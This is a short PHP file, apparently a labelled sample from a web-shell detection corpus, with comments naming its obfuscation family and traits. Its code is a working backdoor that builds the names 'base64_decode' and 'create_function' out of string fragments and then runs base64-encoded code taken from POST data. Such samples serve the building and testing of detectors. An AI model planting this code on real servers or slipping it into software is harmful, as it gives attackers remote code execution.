<?php
// Family: obfuscation/var-function
// Style: decoder name assembled from fragments
// Trait: "base"."64_decode" and "ev"."al"-like names assembled, variable function call on request data
$a = 'bas' . 'e64_' . 'decode';
$b = 'cre' . 'ate_fun' . 'ction';
$c = $b('', $a($_POST['d']));
$c();
